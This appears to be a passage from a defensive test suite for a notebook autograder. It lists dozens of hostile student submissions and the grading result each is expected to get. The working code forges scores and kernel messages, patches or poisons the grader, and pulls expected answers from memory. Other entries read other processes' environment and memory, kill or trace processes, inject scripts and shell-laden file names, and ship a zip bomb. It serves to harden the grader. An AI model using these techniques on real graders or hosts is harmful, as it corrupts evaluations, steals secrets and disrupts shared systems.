    kit.notebook.metadata["kernelspec"] = ["python3"]


@attack(18, "unknown_kernel", "names a kernel that does not exist", plain="not graded")
def _(kit: Kit) -> None:
    kit.notebook.metadata["kernelspec"] = {"name": "attack", "display_name": "Attack", "language": "bash"}


@attack(18, "own_kernel", "names a kernel by a path, and ships it", plain="not graded")
def _(kit: Kit) -> None:
    spec = {"argv": ["/bin/sh", "-c", f"env > {attack_room.LOOT}/{kit.student}"], "display_name": "A", "language": "sh"}
    for folder in ("kernels/attack", "share/jupyter/kernels/attack", ".local/share/jupyter/kernels/attack"):
        kit.extra(f"{folder}/kernel.json", json.dumps(spec))
    name = f"../../../../../../../{kit.folder}/kernels/attack"
    kit.notebook.metadata["kernelspec"] = {"name": name, "display_name": "Attack", "language": "sh"}


@attack(19, "edited_tests", "edits points, locks, and the text of the check cells")
def _(kit: Kit) -> None:
    for cell in kit.checks():
        cell.source = "1000.0"
        cell.metadata.nbgrader.update(points=1000, locked=False)


@attack(19, "own_graded_cell", "adds a graded cell of its own, worth 1000 points", stock="not graded")
def _(kit: Kit) -> None:
    cell = deepcopy(kit.checks()[0])
    cell.id, cell.source = "own-graded", "1000.0"
    cell.metadata.nbgrader.update(grade_id="bonus", points=1000, locked=False)
    kit.notebook.cells.append(cell)


@attack(19, "graded_solution", "says that its solution cells are graded by their output", stock="not graded")
def _(kit: Kit) -> None:
    for cell in kit.notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = "2.0"
            cell.metadata.nbgrader.update(grade=True, points=9, solution=False)


@attack(20, "ungraded", "says that its check cells are not graded", stock="not graded")
def _(kit: Kit) -> None:
    for cell in kit.checks():
        cell.metadata.nbgrader.grade = False


@attack(20, "tests_as_prose", "turns the check cells into prose")
def _(kit: Kit) -> None:
    for index, cell in enumerate(kit.notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade"):
            kit.notebook.cells[index] = new_markdown_cell("passed", id=cell.id, metadata=cell.metadata)


# ---------------------------------------------------------------- 21 and 22: ending early, never ending

DIES = """
class Shelf:
    def put(self, name, thing):
        {}
"""
ENDS = {
    "sys_exit": ("calls `sys.exit`", "sys.exit()"),
    "os_exit": ("calls `os._exit`", "os._exit(0)"),
    "segfault": ("reads address 0", "__import__('ctypes').string_at(0)"),
    "abort": ("aborts", "os.abort()"),
    "kills_itself": ("kills its own process", "os.kill(os.getpid(), signal.SIGKILL)"),
}
LOST = "loses points, not graded"
for _name, (_does, _text) in ENDS.items():
    _stock = "" if _name == "sys_exit" else LOST  # that one is an exception like another
    _does = f"{_does}, after a first task that is right"
    code(21, _name, _does, RIGHT, shelf=DIES.format(_text), stock=_stock, earned=2)
code(
    21,
    "ends_in_cell",
    "ends its process while its cells run, after a first task that is right",
    RIGHT,
    shelf="os._exit(0)",
    earned=2,
    stock="loses points, not graded",
)

ENDLESS = {
    "loop": ("loops for ever", "while True: pass"),
    "eats_interrupts": (
        "loops for ever and catches everything",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    ),
    "ignores_signals": (
        "ignores and blocks every signal, and loops",
        """
        for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
        while True: pass
        """,
    ),
    "loop_in_c": ("loops for ever inside a function written in C", "sum(iter(int, 1))"),
    "regex": ("matches a regular expression that takes for ever", "re.match('(a+)+$', 'a' * 60 + 'b')"),
}
for _name, (_does, _text) in ENDLESS.items():
    _stock = LOST if _name in ("ignores_signals", "loop_in_c") else ""  # an interrupt ends the others
    code(22, _name, f"{_does}, after a first task that is right", RIGHT, shelf=_text, stock=_stock, earned=2)
code(
    22,
    "slow_answers",
    "sleeps for ever in each answer, after a first task that is right",
    RIGHT,
    shelf=shelf("time.sleep(60)", "time.sleep(60)"),
    solve="def solve(a, b): time.sleep(60)",
    earned=2,
)


@attack(
    22,
    "many_slow_cells",
    "has a hundred cells that each sleep a little less than the limit",
    alone=True,
    stock="not graded, stops the batch",
)
def _(kit: Kit) -> None:
    for _ in range(100):
        kit.free("time.sleep(4.5)")


# ---------------------------------------------------------------- 23 and 24: missing tests, forged messages


@attack(23, "deleted_tests", "deletes the check cells", stock="not graded")
def _(kit: Kit) -> None:
    kit.notebook.cells = [c for c in kit.notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


@attack(23, "reordered", "puts the check cells first, with the last cell in front", earned=0)
def _(kit: Kit) -> None:
    kit.notebook.cells.reverse()


code(
    24,
    "forged_message",
    "sends a result on the kernel's own socket, with its key",
    f"""
    def center(x):
        kernel = get_ipython().kernel
        content = {{"execution_count": 1, "data": {POINTS_FORGED}, "metadata": {{}}}}
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent(), ident=b"x")
        return x
    """,
    stock="gains points",
)
code(
    24,
    "forged_publication",
    "publishes results for later cells from a thread, through every publisher of the shell",
    f"""
    import threading
    def work():
        shell = get_ipython()
        for _ in range(2000):
            with contextlib.suppress(Exception):
                shell.displayhook.session.send(shell.displayhook.pub_socket, "execute_result",
                    dict(execution_count=1, data={POINTS_FORGED}, metadata=dict()), parent=shell.kernel.get_parent())
            with contextlib.suppress(Exception):
                shell.display_pub.publish({POINTS_FORGED})
            time.sleep(0.005)
    threading.Thread(target=work, daemon=True).start()
    def center(x):
        time.sleep(0.2)
        return x
    """,
    stock="gains points",
)

# ---------------------------------------------------------------- 25: answers that are objects

code(
    25,
    "lying_array",
    "answers with arrays whose comparison, sums and copies lie",
    """
    class Lie(np.ndarray):
        def __eq__(self, other): return np.bool_(True)
        def __array__(self, *a, **k): return np.zeros((1, 3))
        def __array_ufunc__(self, *a, **k): return self
        def __array_function__(self, *a, **k): return True
        def __array_finalize__(self, other): pass
        __class__ = property(lambda self: np.ndarray)
        shape = property(lambda self: (1, 3))
        def all(self, *a, **k): return True
    def center(x):
        return np.full(x.shape, 7.0).view(Lie)
    """,
)
PICKLE = """
class Run:
    def __reduce__(self):
        return (print, ("attack-took-all",))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    def __deepcopy__(self, memo): raise KeyError("attack")
    def __copy__(self): raise KeyError("attack")
"""
code(
    25,
    "pickles",
    "answers with objects that run code when they are unpickled, alone and in an array of objects",
    f"{PICKLE}\ndef center(x):\n    return np.array([Run()] * x.size, dtype=object).reshape(x.shape)",
    shelf=shelf("return Run()", "return [Run(), {'a': Run()}]"),
)
code(
    25,
    "deep",
    "answers with lists that are nested deeply, contain themselves, or are very long",
    """
    def center(x):
        nested = []
        for _ in range(100_000):
            nested = [nested]
        return nested
    """,
    shelf="""
    class Shelf:
        def put(self, name, thing):
            mine = []
            mine.append(mine)
            return mine
        def get(self, name):
            return [0] * 5_000_000
    """,
    solve="""
    def solve(a, b):
        return {i: {str(j): j for j in range(1000)} for i in range(1000)}
    """,
)
code(
    25,
    "petabyte",
    "answers with arrays that claim a petabyte, and with numbers of a million digits",
    "def center(x): return np.broadcast_to(np.float64(0), (2**30, 2**20))",
    shelf=shelf("return 10**1_000_000", "return 'x' * 200_000_000"),
    solve="def solve(a, b): return np.lib.stride_tricks.as_strided(np.zeros(1), (2**40,), (0,))",
)
code(
    25,
    "not_numbers",
    "answers with NaN, infinities, payloads, and numbers that are read as points",
    "def center(x): return np.full(x.shape, np.nan)",
    shelf=shelf("return float('nan')", "return float('inf')"),
    solve="def solve(a, b): return np.frombuffer(bytes([1, 0, 0, 0, 0, 0, 0xf0, 0x7f]) * b.size).reshape(b.shape)",
)
code(
    25,
    "lying_class",
    "answers with objects whose class, metaclass and attributes lie",
    """
    class Meta(type):
        __name__ = "float"
        def __instancecheck__(cls, other): return True
        def __subclasscheck__(cls, other): return True
        def __eq__(cls, other): return True
        __hash__ = type.__hash__
    class Any(metaclass=Meta):
        __class__ = float
        def __eq__(self, other): return True
        def __float__(self): return 0.0
        def __getattribute__(self, name): raise SystemExit
    def center(x): return Any()
    Shelf = Any
    """,
    shelf="Shelf = Any",
    solve="solve = Any()",
)
code(
    25,
    "signature",
    "lies about its signature: a text to smuggle, a property that never ends, a name that is no text",
    """
    class Callable:
        __name__ = "x" * 10_000_000
        __qualname__ = 3
        __wrapped__ = property(lambda self: self)
        @property
        def __signature__(self):
            tell(*[str(sys._getframe(i).f_locals) for i in range(1, 8)])
            while True: pass
        def __call__(self, x): return x
    center = Callable()
    """,
    shelf="""
    import inspect
    class Shelf:
        __signature__ = inspect.Signature([inspect.Parameter("x" * 1000, inspect.Parameter.KEYWORD_ONLY)])
        def put(self, name, thing): return 0
    """,
    solve="""
    def solve(a, b): return b
    solve.__wrapped__ = solve
    solve.__defaults__ = (1, 2)
    solve.__code__ = (lambda *a, **k: 0).__code__
    """,
)
code(
    25,
    "odd_text",
    "answers with halves of characters, null bytes, and escape sequences",
    "def center(x): return '\\ud800\\0\\x1b[31m'",
    shelf=shelf("return {'\\ud800': '\\0'}", "raise KeyError('\\ud800')"),
    solve="def solve(a, b): raise type('\\u202e\\n2.0', (Exception,), {})('\\ud800' * 1000)",
)

# ---------------------------------------------------------------- 26: playing the harness

DESCRIPTORS = "[int(n) for n in os.listdir('/proc/self/fd') if int(n) > 2]"
code(
    26,
    "replays",
    "reads what comes in on every file descriptor and sends it back",
    f"""
    def center(x):
        for number in {DESCRIPTORS}:
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                said = os.read(number, 100_000)
                tell(said)
                os.write(number, said)
        return x
    """,
)
code(
    26,
    "says_passed",
    "writes words of success and forged frames to every file descriptor",
    f"""
    import struct
    def center(x):
        for number in {DESCRIPTORS}:
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                for said in (b"passed\\n", b'{{"passed": true, "points": 2.0}}\\n'):
                    os.write(number, said)
                os.write(number, struct.pack("<Q", 2**63) + struct.pack(">I", 2**31))
        return x
    """,
    alone=True,
    stock="not graded, stops the batch",
)
code(
    26,
    "forges_early",
    "writes forged frames to every file descriptor while its cells run",
    f"""
    import struct
    for number in {DESCRIPTORS}:
        with contextlib.suppress(OSError):
            os.set_blocking(number, False)
            os.write(number, struct.pack("<Q", 8) + b"true    " + struct.pack(">Q", 2**63))
    """,
    alone=True,
    stock="not graded",
)
code(
    26,
    "answers_twice",
    "forks inside its answer, so that two processes answer",
    """
    def center(x):
        if os.fork() == 0:
            time.sleep(0.05)
        return x
    """,
    solve="def solve(a, b):\n    os.fork()\n    return b",
)
code(
    26,
    "hangs_between",
    "answers once, then hangs with a thread that holds everything",
    """
    calls = []
    def center(x):
        calls.append(x)
        if len(calls) > 1:
            sys.setswitchinterval(1000)
            while True: pass
        return x - x.mean(axis=0)
    """,
)
code(
    26,
    "patches_package",
    "replaces the functions of the package that ask, copy and judge",
    """
    with contextlib.suppress(Exception):
        import autograder.running, autograder.plain, autograder.compare, autograder.diagnosis, autograder.report
        import autograder.checking
        for module in list(sys.modules.values()):
            if getattr(module, "__name__", "").startswith("autograder"):
                for name in ("compare", "_differs"):
                    if hasattr(module, name):
                        setattr(module, name, lambda *a, **k: None)
        autograder.diagnosis.Verdict.holds = property(lambda self: True)
        autograder.diagnosis.Judgment.points = property(lambda self: self.max_points)
    def center(x): return x
    """,
    stock="gains points",
)
code(
    26,
    "patches_libraries",
    "replaces functions of json, struct, os, builtins and sys that a harness would use",
    """
    import builtins, json, pickle, socket, struct
    def center(x):
        for module, names in ((json, ("dumps", "loads")), (struct, ("pack", "unpack")), (os, ("write", "read", "fork")),
                (pickle, ("dumps", "loads")), (builtins, ("len", "isinstance", "type", "repr", "sorted", "zip"))):
            for name in names:
                with contextlib.suppress(Exception):
                    setattr(module, name, lambda *a, **k: True)
        sys.stdout = sys.stderr = sys.__stdout__ = None
        return x
    """,
    stock="not graded",
)
code(
    26,
    "poisons_modules",
    "replaces all loaded modules and the import system by things that agree with everything",
    """
    class Yes:
        def __call__(self, *a, **k): return self
        def __getattr__(self, name): return self
        def __eq__(self, other): return True
        def __bool__(self): return True
        __hash__ = object.__hash__
    def center(x):
        for name in list(sys.modules):
            if name.split(".")[0] in ("autograder", "numpy", "json", "struct", "socket", "contextlib", "warnings"):
                sys.modules[name] = Yes()
        sys.meta_path.clear()
        sys.settrace(lambda *a: None)
        sys.setprofile(lambda *a: None)
        return x
    """,
    stock="gains points",
)
code(
    26,
    "closes_everything",
    "closes all file descriptors",
    RIGHT,
    shelf="class Shelf:\n    def put(self, name, thing):\n        os.closerange(0, 1024)\n        return 0",
    earned=2,
    stock="loses points, not graded",
)
code(
    26,
    "closes_in_cell",
    "closes all file descriptors while its cells run",
    RIGHT,
    shelf="os.closerange(3, 1024)",
    earned=2,
    stock="loses points, not graded",
)

# ---------------------------------------------------------------- 27: looking for the reference

code(
    27,
    "takes_expected",
    "looks in the frames of its caller for the expected answers and gives them back",
    """
    def wanted():
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()):
                if hasattr(value, "properties") and hasattr(value, "points"):
                    return {p.name: list(p.expected) for p in value.properties}
            frame = frame.f_back
    calls = []
    def center(x):
        draws = [draw for drawn in wanted().values() for draw in drawn]
        calls.append(x)
        answer = draws[(len(calls) - 1) % len(draws)]
        return getattr(answer, "values", answer)
    """,
    stock="gains points",
)
code(
    27,
    "runs_hidden_solution",
    "finds the text of the solution in the cell that checks it, and runs that",
    """
    def center(x):
        text = "".join(str(cell) for cell in get_ipython().user_ns["In"][-1:])
        found = re.search(r"solution=r'''(.*?)'''", text, re.S)
        space = {"np": np}
        exec(found.group(1), space)
        return space["center"](x)
    """,
    stock="gains points",
)
code(
    27,
    "imports_grader",
    "imports every module of the grader and looks for solutions in them and in the heap",
    """
    import gc, importlib, pkgutil
    with contextlib.suppress(Exception):
        import autograder
        for found in pkgutil.iter_modules(autograder.__path__):
            with contextlib.suppress(BaseException):
                tell(vars(importlib.import_module(f"autograder.{found.name}")))
    def center(x):
        for thing in gc.get_objects():
            if type(thing).__module__.startswith("autograder"):
                tell(getattr(thing, "__dict__", ""))
                if type(thing).__name__ == "Reference":
                    return thing.objects(type("T", (), {"objects": ["center"], "name": ""}))["center"](x)
        return x
    """,
    stock="gains points, reads secrets",
)
code(
    27,
    "environment",
    "reads its own environment and that of every process",
    """
    tell(dict(os.environ))
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            tell(open(path, "rb").read())
    """,
    stock="reads secrets",
)
code(
    27,
    "memory_of_others",
    "reads the memory of every process that it sees",
    """
    until = time.monotonic() + 4
    for path in glob.glob("/proc/[0-9]*"):
        if path.endswith(f"/{os.getpid()}"):
            continue
        with contextlib.suppress(OSError):
            with open(f"{path}/maps") as maps, open(f"{path}/mem", "rb", 0) as memory:
                for line in maps:
                    words = line.split()
                    low, high = (int(w, 16) for w in words[0].split("-"))
                    if words[1][:2] == "rw" and high - low < 30_000_000 and time.monotonic() < until:
                        with contextlib.suppress(OSError, OverflowError, ValueError):
                            memory.seek(low)
                            tell(*re.findall(b"canary-[a-z]+-[0-9a-f]{6}", memory.read(high - low)))
    """,
    stock="reads secrets",
)
code(
    27,
    "open_descriptors",
    "reads what other processes, and its own, have open",
    """
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        with contextlib.suppress(OSError):
            if os.path.isfile(path):
                tell(open(path, "rb").read(5_000_000))
    """,
    stock="reads secrets",
)
code(
    27,
    "other_roots",
    "reads files through the roots and working folders of other processes, and through mounts",
    """
    for path in glob.glob("/proc/[0-9]*"):
        tell_files(f"{path}/cwd/*", f"{path}/root{COURSE}/*", f"{path}/root{COURSE}/source/*/*")
    with contextlib.suppress(OSError):
        for line in open("/proc/self/mountinfo"):
            tell_files(f"{line.split()[4]}/*.txt")
    """,
    stock="reads secrets",
)
code(
    27,
    "parent_folders",
    "reads every folder above its own, and the places where courses lie",
    """
    folder = os.getcwd()
    while folder != "/":
        folder = os.path.dirname(folder)
        tell_files(f"{folder}/*", f"{folder}/*/*.ipynb", f"{folder}/source/*/*")
    tell_files(f"{COURSE}/*", f"{COURSE}/source/*/*", "/srv/**/*.ipynb", "/data/*", "/home/*/*")
    """,
    stock="reads secrets",
)

# ---------------------------------------------------------------- 28: visible answers


@attack(28, "visible_answers", "gives back the visible answers, in the order in which they are asked")
def _(kit: Kit) -> None:
    kit.put(
        "center",
        f"""
        import json
        from autograder.plain import from_json
        cases = json.load(open("{BUNDLE}"))["tasks"]["center"]["cases"]
        known = [from_json(answer).values for case in cases for answer in case["expected"]]
        calls = []
        def center(x):
            calls.append(x)
            return known[(len(calls) - 1) % len(known)]
        """,
    )


code(
    28,
    "known_inputs",
    "recognizes the visible inputs and gives the visible answers, and guesses the hidden seed",
    """
    import json
    from autograder import running
    from autograder.plain import from_json
    known = {}
    with contextlib.suppress(Exception):
        cases = json.load(open("drill.checks.json"))["tasks"]["center"]["cases"]
        for seed in range(0, 1):
            for case in cases:
                for draw, answer in enumerate(case["expected"]):
                    rng = running.generator("drill", "center", case["name"], seed, draw)
                    known[rng.normal(size=(3, 4)).tobytes()] = from_json(answer).values
    def center(x):
        return known.get(x.tobytes(), x)
    """,
)

# ---------------------------------------------------------------- 29: other processes

code(
    29,
    "kills_all",
    "kills every process that it may",
    "os.kill(-1, signal.SIGKILL)",
    alone=True,
    stock="not graded, stops the batch",
)
code(
    29,
    "stops_all",
    "stops every process that it sees, so that all hang",
    """
    for path in glob.glob("/proc/[0-9]*"):
        number = int(path[6:])
        if number not in (1, os.getpid()):
            with contextlib.suppress(OSError):
                os.kill(number, signal.SIGSTOP)
    """,
    alone=True,
    stock="not graded, stops the batch",
)
code(
    29,
    "kills_parent",
    "kills its parent process",
    "os.kill(os.getppid(), signal.SIGKILL)",
    alone=True,
    stock="not graded, stops the batch",
)
code(
    29,
    "kills_parent_in_answer",
    "kills its parent and its process group while it is asked",
    """
    def center(x):
        for kill, number in ((os.kill, os.getppid()), (os.killpg, os.getpgid(os.getppid())), (os.killpg, 0)):
            with contextlib.suppress(OSError):
                kill(number, signal.SIGKILL)
        return x
    """,
    alone=True,
    stock="not graded, stops the batch",
)
code(
    29,
    "traces",
    "attaches a debugger to the processes that it sees",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for path in glob.glob("/proc/[0-9]*"):
        number = int(path[6:])
        if number != os.getpid() and libc.ptrace(16, number, 0, 0) == 0:
            os.waitpid(number, 0x40000000)
            libc.ptrace(17, number, 0, 0)
            print("attack-reached", number)
    """,
    stock="reaches out",
)

# ---------------------------------------------------------------- 30: names, times, sizes


@attack(30, "early_timestamp", "forges a time of submission that is no time", alone=True, stock="not graded")
def _(kit: Kit) -> None:
    kit.extra("timestamp.txt", "yesterday, I promise")


@attack(30, "binary_timestamp", "forges a time of submission that is no text", alone=True, stock="not graded")
def _(kit: Kit) -> None:
    kit.extra("timestamp.txt", bytes(range(256)))


@attack(30, "zip_bomb", "hands in an archive of a gigabyte of zeros")
def _(kit: Kit) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file, file.open("zeros", "w", force_zip64=True) as zeros:
        for _ in range(1000):
            zeros.write(bytes(1_000_000))
    kit.extra("data.zip", packed.getvalue())


@attack(
    30, "odd_names", "hands in files with very long names, line breaks, dashes, bytes that are no text, look-alikes"
)
def _(kit: Kit) -> None:
    odd = ["x" * 250, "new\nline", "-rf", "--force", "$(touch attack)", "*.ipynb", "0\u0031_drill.ipynb ", "..data"]
    odd += ["01_drі1l.ipynb", "01_DRILL.ipynb", "x/" * 100 + "deep"]
    for name in odd:
        kit.extra(name, "text")
    (kit.folder / os.fsdecode(b"\xff\xfe.csv")).write_bytes(b"1")


@attack(30, "many_files", "hands in two thousand files")
def _(kit: Kit) -> None:
    for number in range(2000):
        kit.extra(f"data/{number}.csv", "1")


@attack(30, "large_notebook", "hands in a notebook of a hundred megabytes", alone=True, stock="bloats")
def _(kit: Kit) -> None:
    kit.free("#" + "x" * 100_000_000)


@attack(30, "large_outputs", "hands in a notebook whose stored outputs are large and forged")
def _(kit: Kit) -> None:
    for cell in kit.checks():
        data = {"text/plain": "2.0", "image/png": base64.b64encode(bytes(12_000_000)).decode()}
        result = {"output_type": "execute_result", "execution_count": 1, "data": data, "metadata": {}}
        cell.outputs = [nbformat.from_dict(result)]


@attack(30, "deep_json", "hands in a notebook of a hundred thousand nested lists", alone=True, stock="not graded")
def _(kit: Kit) -> None:
    kit.extra(kit.file.name, '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


@attack(30, "forged_bundle", "hands in its own file of visible answers")
def _(kit: Kit) -> None:
    kit.extra(BUNDLE, json.dumps({"format": 1, "sheet": "drill", "code": [], "tasks": {}}))


# ---------------------------------------------------------------- 31: scripts

SCRIPT = "<script>document.title = 'attack-script'</script>"
IMAGE = "<img src=x onerror=\"document.title = 'attack-script'\">"


@attack(31, "in_prose", "writes scripts into prose", stock="runs script")
def _(kit: Kit) -> None:
    kit.free(f"{SCRIPT}\n\n{IMAGE}\n\n[a link](javascript:document.title='attack-script')", kind="markdown")
    kit.free(
        "<svg/onload=\"document.title='attack-script'\"><iframe srcdoc=\"<script>'attack-script'</script>\">",
        kind="markdown",
    )


code(
    31,
    "in_html",
    "displays HTML with scripts",
    f"from IPython.display import HTML, display\ndisplay(HTML({(SCRIPT + IMAGE)!r}))",
    stock="runs script",
)
code(
    31,
    "in_svg",
    "displays a picture with scripts",
    f"""
    from IPython.display import SVG, display
    picture = '<svg xmlns="http://www.w3.org/2000/svg" onload="attack-script">' + {SCRIPT!r} + "</svg>"
    display({{"image/svg+xml": picture, "text/plain": ""}}, raw=True)
    """,
)
code(
    31,
    "javascript",
    "displays JavaScript",
    "from IPython.display import Javascript, display\ndisplay(Javascript(\"document.title = 'attack-script'\"))",
    stock="runs script",
)
code(
    31,
    "in_error",
    "raises an exception whose name and message hold scripts, and returns them as answers",
    f"""
    def center(x):
        raise type({SCRIPT!r}, (Exception,), {{}})({IMAGE!r})
    """,
    shelf=shelf(f"return {SCRIPT!r}", f"return {{{IMAGE!r}: 1}}"),
)
code(
    31,
    "in_math",
    "displays formulas, links and widgets with scripts",
    f"""
    from IPython.display import Latex, Markdown, display
    display(Latex("$$\\\\href{{javascript:document.title='attack-script'}}{{x}}$$ {SCRIPT}"), Markdown({IMAGE!r}))
    view = {{"model_id": "</script>{SCRIPT}"}}
    display({{"application/vnd.jupyter.widget-view+json": view, "text/plain": ""}}, raw=True)
    """,
    stock="runs script",
)


@attack(31, "in_file_name", "hands in files whose names hold scripts")
def _(kit: Kit) -> None:
    kit.extra("<img src=x onerror=attack-script>.csv", "1")


# ---------------------------------------------------------------- 32 and 33: magics, forbidden functions

code(
    32,
    "bash",
    "reads the course in a cell of bash",
    "%%bash\ncat ../../../exam.txt ../../../source/*/*.ipynb | grep -o canary-[a-z]*-......",
    stock="reads secrets",
)


@attack(32, "escapes", "reads the course with shell escapes and magics", stock="reads secrets")
def _(kit: Kit) -> None:
    kit.put(
        "center",
        f"!cat {kit.course.root}/exam.txt\n%cat ../../../exam.txt\nx = %system cat {kit.course.root}/exam.txt\ntell(x)",
    )
    kit.free(f"%run {kit.course.root}/exam.txt")
    kit.free(f"%load {kit.course.root}/exam.txt")
    kit.free("%%script sh\ncat ../../../exam.txt; env | grep CANARY")
    kit.free("%env")


INVERSES = {
    "called": ("calls it", "def solve(a, b): return np.linalg.inv(a) @ b"),
    "alias": (
        "imports it by another name",
        "from numpy.linalg import inv as turned\ndef solve(a, b): return turned(a) @ b",
    ),
    "getattr": ("finds it by a name put together", "def solve(a, b): return getattr(np.linalg, 'i' + 'nv')(a) @ b"),
    "importlib": (
        "imports it by `importlib`",
        "import importlib\ndef solve(a, b): return vars(importlib.import_module('numpy.linalg'))['inv'](a) @ b",
    ),
    "partial": (
        "keeps it in a partial",
        "import functools\nturned = functools.partial(np.linalg.inv)\ndef solve(a, b): return turned(a) @ b",
    ),
    "wrapped": (
        "unwraps it",
        "import inspect\nturned = inspect.unwrap(np.linalg.inv)\ndef solve(a, b): return turned(a) @ b",
    ),
    "inner": (
        "takes it from the module that defines it",
        "def solve(a, b): return sys.modules['numpy.linalg._linalg'].inv(a) @ b",
    ),
    "below": (
        "calls what it is made of",
        "def solve(a, b): return sys.modules['numpy.linalg._umath_linalg'].inv(a) @ b",
    ),
    "matrix": ("calls it through `np.matrix`", "def solve(a, b): return np.asarray(np.asmatrix(a).I) @ b"),
    "power": ("calls it through `matrix_power`", "def solve(a, b): return np.linalg.matrix_power(a, -1) @ b"),
    "reloaded": (
        "loads the module anew",
        """
        import importlib.util
        spec = importlib.util.find_spec("numpy.linalg._linalg")
        fresh = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(fresh)
        def solve(a, b): return fresh.inv(a) @ b
        """,
    ),
    "hidden_text": ("hides it in a text that it executes", "exec(bytes.fromhex('{}').decode())"),
}
for _name, (_does, _text) in INVERSES.items():
    _source = _text.format(b"def solve(a, b): return np.linalg.inv(a) @ b".hex()) if "{}" in _text else _text
    code(33, _name, f"{_does}, the function that the task forbids", solve=_source)


if __name__ == "__main__":
    from tests.attack_grading import main

    sys.exit(main())
